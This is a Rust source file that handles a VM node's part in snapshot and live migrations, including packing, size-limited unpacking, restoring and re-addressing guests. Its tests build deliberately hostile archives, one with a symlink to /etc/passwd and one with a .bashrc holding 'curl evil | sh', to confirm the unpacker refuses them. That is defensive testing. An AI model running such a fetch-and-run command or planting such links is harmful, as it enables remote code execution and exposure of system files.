//! This node's part in migrations (run by the executor, `ops`).
//!
//! Source: pause the VM and snapshot it (kept paused: nothing may change after the snapshot),
//! pack the snapshot directory into a tar file and upload it to the server. Destination:
//! download it, unpack it into the VM's state directory as a complete snapshot (temporary name,
//! then rename; the archive came from another node, so [`unpack`] writes regular files with
//! the snapshot formats' names only, see `firefleet_vmm::archive`), make the VM's disks and
//! network attachment here, restore, re-address the guest for this node's subnet, report. Each
//! step finds the previous one's result on disk if it was done before a crash, so a repeated
//! attempt carries on.
//!
//! The steps are async: the server is talked to through [`ControlPlane`], VMM and file work
//! runs on the blocking pool ([`blocking`]).

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use firefleet_api::{MigrationIntent, MigrationReport};
use firefleet_types::{error_chain, MigrationPhase};
use firefleet_vmm::{LaunchConfig, QemuRuntime, Runtime};

use crate::control::{blocking, ControlPlane, Download};

use firefleet_vmm::unix_ms as now_ms;

async fn report(cp: &dyn ControlPlane, vm: &str, r: &MigrationReport) {
    if let Err(e) = cp.report_migration(vm, r).await {
        tracing::warn!(vm, error = %e, "reporting a migration step failed");
    }
}

fn done(resumed_ms: u64) -> MigrationReport {
    MigrationReport {
        phase: MigrationPhase::Done,
        paused_ms: None,
        resumed_ms: Some(resumed_ms),
        message: None,
        kernel_cmdline: None,
        vmm_downtime_ms: None,
    }
}

pub(crate) fn failed(message: String) -> MigrationReport {
    MigrationReport {
        phase: MigrationPhase::Failed,
        paused_ms: None,
        resumed_ms: None,
        message: Some(message),
        kernel_cmdline: None,
        vmm_downtime_ms: None,
    }
}

/// The source's part: snapshot (paused), pack, upload.
pub async fn send(
    cp: &dyn ControlPlane,
    rt: Arc<dyn Runtime>,
    vm_dir: PathBuf,
    m: &MigrationIntent,
) {
    let vm = m.migration.vm.as_str().to_owned();
    let name = m.migration.snapshot.clone();
    let result = async {
        let dir = vm_dir.join("snapshots").join(&name);
        let taken = blocking(move || firefleet_vmm::completed_snapshot(&dir).is_some()).await?;
        if !taken {
            let paused = MigrationReport {
                phase: MigrationPhase::Transferring,
                paused_ms: Some(now_ms()),
                resumed_ms: None,
                message: None,
                kernel_cmdline: None,
                vmm_downtime_ms: None,
            };
            report(cp, &vm, &paused).await;
            let (vm, name) = (vm.clone(), name.clone());
            blocking(move || rt.snapshot(&vm, &name, true))
                .await?
                .map_err(|e| format!("snapshot: {}", error_chain(&e)))?;
        }
        let archive = {
            let (vm_dir, name) = (vm_dir.clone(), name.clone());
            blocking(move || pack(&vm_dir, &name)).await??
        };
        let r = cp.upload_migration(&vm, &archive).await;
        let _ = tokio::fs::remove_file(&archive).await;
        r.map_err(|e| format!("upload: {e}"))
    }
    .await;
    match result {
        Ok(()) => tracing::info!(vm, "migration snapshot sent"),
        Err(e) => {
            tracing::warn!(vm, error = %e, "migration: sending failed");
            report(cp, &vm, &failed(format!("source: {e}"))).await;
        }
    }
}

/// Packs snapshot `name` of the VM in `vm_dir` into `<vm_dir>/<name>.tar` (kept if there).
pub(crate) fn pack(vm_dir: &Path, name: &str) -> Result<PathBuf, String> {
    let dir = vm_dir.join("snapshots").join(name);
    let archive = vm_dir.join(format!("{name}.tar"));
    if !archive.exists() {
        let part = archive.with_extension("tar.part");
        let packed = (|| {
            let mut out = std::io::BufWriter::new(
                fs::File::create(&part).map_err(|e| format!("{}: {e}", part.display()))?,
            );
            firefleet_vmm::archive::pack(&dir, &mut out, &firefleet_vmm::is_snapshot_file)
                .map_err(|e| format!("packing: {}", firefleet_types::error_chain(&e)))?;
            out.into_inner()
                .map_err(|e| e.into_error())
                .and_then(|f| f.sync_all())
                .map_err(|e| format!("{}: {e}", part.display()))
        })();
        if let Err(e) = packed {
            let _ = fs::remove_file(&part);
            return Err(e);
        }
        fs::rename(&part, &archive).map_err(|e| format!("{}: {e}", archive.display()))?;
    }
    Ok(archive)
}

/// The caps on unpacking a snapshot archive of `archive_bytes`: a snapshot holds at most a
/// manifest, state, memory and one copy per disk (and `tar -cf - .` archives a `./` entry), and
/// no file can hold more than the archive (sparse entries are refused), whose size the server
/// bounded per VM at upload.
fn unpack_limits(archive_bytes: u64) -> firefleet_vmm::archive::UnpackLimits {
    firefleet_vmm::archive::UnpackLimits {
        max_entries: 4 + firefleet_types::vm::MAX_DISKS,
        max_entry_bytes: archive_bytes,
        max_total_bytes: archive_bytes,
    }
}

/// Unpacks the snapshot archive `archive` into the fresh directory `tmp`: regular files with
/// the snapshot formats' names only (see [`firefleet_vmm::archive::unpack`]).
pub(crate) fn unpack(archive: &Path, tmp: &Path) -> Result<u64, String> {
    let file = fs::File::open(archive).map_err(|e| format!("{}: {e}", archive.display()))?;
    let len = file
        .metadata()
        .map_err(|e| format!("{}: {e}", archive.display()))?
        .len();
    firefleet_vmm::archive::unpack(
        std::io::BufReader::new(file),
        tmp,
        &firefleet_vmm::is_snapshot_file,
        &unpack_limits(len),
    )
    .map_err(|e| format!("unpacking: {}", firefleet_types::error_chain(&e)))
}

/// Downloads a snapshot and unpacks it into `snapshots/<name>` (complete or not at all),
/// unless a complete one is there already.
pub(crate) async fn receive(
    cp: &dyn ControlPlane,
    vm: &str,
    vm_dir: &Path,
    name: &str,
    source: Download<'_>,
) -> Result<PathBuf, String> {
    let dir = vm_dir.join("snapshots").join(name);
    let snapshots = vm_dir.join("snapshots");
    let found = {
        let (dir, snapshots) = (dir.clone(), snapshots.clone());
        blocking(move || {
            if firefleet_vmm::completed_snapshot(&dir).is_some() {
                return Ok(true);
            }
            fs::create_dir_all(&snapshots).map_err(|e| format!("{}: {e}", snapshots.display()))?;
            Ok::<_, String>(false)
        })
        .await??
    };
    if found {
        return Ok(dir);
    }
    let archive = snapshots.join(format!(".{name}.tar"));
    let bytes = cp
        .download(vm, source, &archive)
        .await
        .map_err(|e| format!("download: {e}"))?;
    let tmp = snapshots.join(format!(".tmp-{name}-{}", std::process::id()));
    let unpacked = blocking(move || {
        let _ = fs::remove_dir_all(&tmp);
        let unpacked = unpack(&archive, &tmp);
        let _ = fs::remove_file(&archive);
        unpacked?;
        // Checked under its final name (QEMU's check refuses temporary names).
        let _ = fs::remove_dir_all(&dir);
        fs::rename(&tmp, &dir).map_err(|e| format!("{}: {e}", dir.display()))?;
        if firefleet_vmm::completed_snapshot(&dir).is_none() {
            let _ = fs::remove_dir_all(&dir);
            return Err(format!(
                "the received snapshot ({bytes} bytes) is incomplete"
            ));
        }
        Ok(dir)
    })
    .await??;
    tracing::info!(vm, bytes, "snapshot received");
    Ok(unpacked)
}

/// Marks the VM in `vm_dir` as having a ready guest: it came here running (restored from a
/// snapshot taken elsewhere, or migrated), and its console here starts after its ready line.
pub(crate) fn mark_ready(vm_dir: &Path) {
    let marker = vm_dir.join(firefleet_vmm::GUEST_READY_MARKER);
    if let Err(e) = fs::write(&marker, b"") {
        tracing::warn!(path = %marker.display(), error = %e, "writing the ready marker failed");
    }
}

/// The destination's part: receive, restore with `cfg` (disks and network already made),
/// re-address the guest, report done. Failures are reported; the caller undoes local state.
pub async fn restore(
    cp: &dyn ControlPlane,
    rt: Arc<dyn Runtime>,
    vm_dir: PathBuf,
    m: &MigrationIntent,
    cfg: LaunchConfig,
) -> Result<(), String> {
    let vm = m.migration.vm.as_str().to_owned();
    let result = async {
        let dir = receive(cp, &vm, &vm_dir, &m.migration.snapshot, Download::Migration).await?;
        let vm = vm.clone();
        blocking(move || {
            if !rt.observe(&vm).is_ok_and(|o| o.running) {
                rt.restore(&cfg, &dir)
                    .map_err(|e| format!("restore: {}", error_chain(&e)))?;
            }
            mark_ready(&vm_dir);
            Ok(runs_here(&*rt, &vm, &cfg))
        })
        .await?
    }
    .await;
    conclude(cp, &vm, result).await
}

/// The guest runs here now: when (what the report says), after it is given this node's
/// address.
fn runs_here(rt: &dyn Runtime, vm: &str, cfg: &LaunchConfig) -> u64 {
    let resumed = now_ms();
    if let Some(net) = &cfg.net {
        readdress(rt, vm, net);
    }
    resumed
}

/// Reports the destination's outcome: done (with when the guest ran here) or failed.
async fn conclude(
    cp: &dyn ControlPlane,
    vm: &str,
    result: Result<u64, String>,
) -> Result<(), String> {
    match result {
        Ok(resumed) => {
            report(cp, vm, &done(resumed)).await;
            Ok(())
        }
        Err(e) => {
            tracing::warn!(vm, error = %e, "migration: the destination failed");
            report(cp, vm, &failed(format!("destination: {e}"))).await;
            Err(e)
        }
    }
}

/// The restored guest still has the source node's address: give it this node's, over the guest
/// channel. Best effort: a guest without a channel keeps its old address (and says so in logs).
pub(crate) fn readdress(rt: &dyn Runtime, vm: &str, net: &firefleet_vmm::net::NetAttachment) {
    // The MAC too: a clone of a function's template starts with the template's.
    let script = format!(
        "n=$(ls /sys/class/net | grep -v '^lo$' | head -n 1); \
         if [ \"$(cat /sys/class/net/$n/address)\" != {mac} ]; then \
           ip link set dev $n down && ip link set dev $n address {mac}; fi; \
         ip addr flush dev $n && ip addr add {}/{} dev $n && ip link set dev $n up && \
         ip route replace default via {} dev $n",
        net.guest_ip,
        net.prefix_len,
        net.gateway,
        mac = net.mac
    );
    let argv = vec!["sh".to_owned(), "-c".to_owned(), script];
    match rt.exec(vm, &argv, None, Duration::from_secs(10)) {
        Ok(out) if out.exit_code == 0 => {
            tracing::info!(vm, ip = %net.guest_ip, "guest re-addressed after migration");
        }
        Ok(out) => tracing::warn!(
            vm,
            code = out.exit_code,
            stderr = %String::from_utf8_lossy(&out.stderr),
            "re-addressing the guest failed"
        ),
        Err(e) => {
            tracing::warn!(vm, error = %firefleet_types::error_chain(&e), "re-addressing the guest failed")
        }
    }
}

/// The source's part of a live migration: say how the VM was booted, then let QEMU stream its
/// state (pre-copy, the guest running until the last round) to the server, which forwards it
/// to the destination. If QEMU's migration fails the guest simply goes on here.
pub async fn send_live(cp: Arc<dyn ControlPlane>, qemu: Arc<QemuRuntime>, m: &MigrationIntent) {
    let vm = m.migration.vm.as_str().to_owned();
    let result = async {
        let cmdline = {
            let (qemu, vm) = (qemu.clone(), vm.clone());
            blocking(move || qemu.booted_kernel_cmdline(&vm))
                .await?
                .map_err(|e| format!("kernel command line: {}", error_chain(&e)))?
        };
        report(
            &*cp,
            &vm,
            &MigrationReport {
                phase: MigrationPhase::Transferring,
                paused_ms: None,
                resumed_ms: None,
                message: None,
                kernel_cmdline: Some(cmdline),
                vmm_downtime_ms: None,
            },
        )
        .await;
        let (ours, theirs) =
            std::os::unix::net::UnixStream::pair().map_err(|e| format!("socket pair: {e}"))?;
        ours.set_nonblocking(true)
            .map_err(|e| format!("socket pair: {e}"))?;
        let reader =
            tokio::net::UnixStream::from_std(ours).map_err(|e| format!("socket pair: {e}"))?;
        let upload = {
            let (cp, vm) = (cp.clone(), vm.clone());
            tokio::spawn(async move { cp.send_live(&vm, reader).await })
        };
        let vm2 = vm.clone();
        let (stats, completed_ms) = blocking(move || {
            let stats = qemu.live_send(&vm2, &theirs);
            let completed_ms = now_ms();
            // End of stream for the upload (QEMU closed its copy when it finished).
            drop(theirs);
            (stats, completed_ms)
        })
        .await?;
        let uploaded = upload.await;
        let stats = stats.map_err(|e| format!("migration: {}", error_chain(&e)))?;
        match uploaded {
            Ok(Ok(())) => Ok((stats, completed_ms)),
            Ok(Err(e)) => Err(format!("stream: {e}")),
            Err(e) => Err(format!("stream: {e}")),
        }
    }
    .await;
    match result {
        Ok((stats, completed_ms)) => {
            tracing::info!(vm, ?stats, "live migration sent");
            report(
                &*cp,
                &vm,
                &MigrationReport {
                    phase: MigrationPhase::Restoring,
                    // The guest stopped here for the last round.
                    paused_ms: Some(completed_ms.saturating_sub(stats.downtime_ms)),
                    resumed_ms: None,
                    message: None,
                    kernel_cmdline: None,
                    vmm_downtime_ms: Some(stats.downtime_ms),
                },
            )
            .await;
        }
        Err(e) => {
            tracing::warn!(vm, error = %e, "live migration: sending failed");
            report(&*cp, &vm, &failed(format!("source: {e}"))).await;
        }
    }
}

/// The destination's part of a live migration: a VMM waiting for the incoming state, fed with
/// the stream the server forwards; once the guest runs here, re-address it and report.
pub async fn receive_live(
    cp: &dyn ControlPlane,
    qemu: Arc<QemuRuntime>,
    m: &MigrationIntent,
    cfg: LaunchConfig,
) -> Result<(), String> {
    let vm = m.migration.vm.as_str().to_owned();
    let result = async {
        let cmdline = m
            .migration
            .kernel_cmdline
            .clone()
            .ok_or("the source did not say how the VM was booted")?;
        let (ours, theirs) =
            std::os::unix::net::UnixStream::pair().map_err(|e| format!("socket pair: {e}"))?;
        let cfg = Arc::new(cfg);
        {
            let (qemu, cfg) = (qemu.clone(), cfg.clone());
            blocking(move || {
                let r = qemu.live_receive(&cfg, &cmdline, &theirs);
                drop(theirs);
                r
            })
            .await?
            .map_err(|e| format!("incoming VMM: {}", error_chain(&e)))?;
        }
        ours.set_nonblocking(true)
            .map_err(|e| format!("socket pair: {e}"))?;
        let writer =
            tokio::net::UnixStream::from_std(ours).map_err(|e| format!("socket pair: {e}"))?;
        let bytes = cp
            .receive_live(&vm, writer)
            .await
            .map_err(|e| format!("stream: {e}"))?;
        let vm = vm.clone();
        blocking(move || {
            qemu.live_wait_incoming(&vm, Duration::from_secs(60))
                .map_err(|e| format!("incoming state: {}", error_chain(&e)))?;
            mark_ready(&qemu.vm_dir(&vm));
            qemu.resume(&vm)
                .map_err(|e| format!("resume: {}", error_chain(&e)))?;
            let resumed = runs_here(&*qemu, &vm, &cfg);
            tracing::info!(vm, bytes, "live migration received");
            Ok(resumed)
        })
        .await?
    }
    .await;
    conclude(cp, &vm, result).await
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `tar -C dir -cf archive .`, as agents packed snapshots before; `None` without tar.
    fn tar_command(dir: &Path, archive: &Path) -> Option<()> {
        std::process::Command::new("tar")
            .arg("-C")
            .arg(dir)
            .arg("-cf")
            .arg(archive)
            .arg(".")
            .status()
            .ok()
            .filter(|s| s.success())
            .map(drop)
    }

    #[test]
    fn a_packed_snapshot_unpacks_and_one_packed_by_tar_too() {
        let tmp = tempfile::tempdir().unwrap();
        let snap = tmp.path().join("snapshots").join("s1");
        fs::create_dir_all(&snap).unwrap();
        for f in ["vmstate", "memory", "disk0", "manifest.json"] {
            fs::write(snap.join(f), f).unwrap();
        }
        let archive = pack(tmp.path(), "s1").unwrap();
        let out = tmp.path().join("out");
        assert_eq!(unpack(&archive, &out).unwrap(), 31);
        assert_eq!(fs::read(out.join("disk0")).unwrap(), b"disk0");

        let old = tmp.path().join("old.tar");
        if tar_command(&snap, &old).is_some() {
            let out = tmp.path().join("out-old");
            assert_eq!(unpack(&old, &out).unwrap(), 31);
        }
    }

    #[test]
    fn an_archive_holding_a_link_is_refused_and_leaves_nothing() {
        let tmp = tempfile::tempdir().unwrap();
        let hostile = tmp.path().join("hostile");
        fs::create_dir(&hostile).unwrap();
        fs::write(hostile.join("vmstate"), b"x").unwrap();
        std::os::unix::fs::symlink("/etc/passwd", hostile.join("memory")).unwrap();
        let archive = tmp.path().join("hostile.tar");
        if tar_command(&hostile, &archive).is_none() {
            eprintln!("no tar command: skipped");
            return;
        }
        let out = tmp.path().join("out");
        let e = unpack(&archive, &out).unwrap_err();
        assert!(
            e.contains("\"./memory\"") && e.contains("symbolic link"),
            "{e}"
        );
        assert!(!out.exists());

        // A name no snapshot format defines.
        fs::remove_file(hostile.join("memory")).unwrap();
        fs::write(hostile.join(".bashrc"), b"curl evil | sh").unwrap();
        let archive = tmp.path().join("foreign.tar");
        tar_command(&hostile, &archive).unwrap();
        let e = unpack(&archive, &out).unwrap_err();
        assert!(e.contains("\"./.bashrc\""), "{e}");
    }
}
